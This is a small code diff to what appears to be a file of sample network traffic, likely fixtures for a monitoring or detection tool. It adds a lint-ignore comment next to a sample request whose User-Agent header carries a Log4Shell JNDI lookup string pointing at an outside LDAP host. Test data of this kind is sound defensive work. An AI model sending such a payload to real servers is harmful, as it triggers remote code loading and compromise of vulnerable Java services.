@@ -24,6 +24,7 @@ export const SAMPLES = [
     from: ['198.51.100.77', 40112, '', ''],
     to: ['10.244.2.9', 8080, 'checkout-7c5d9f6b8-m9zkt', 'shop'],
     start: 'GET /cart HTTP/1.1',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack itself
     headers: { Host: 'shop.example', 'User-Agent': '${jndi:ldap://198.51.100.77:1389/a}', Accept: '*/*' },
   },
   {
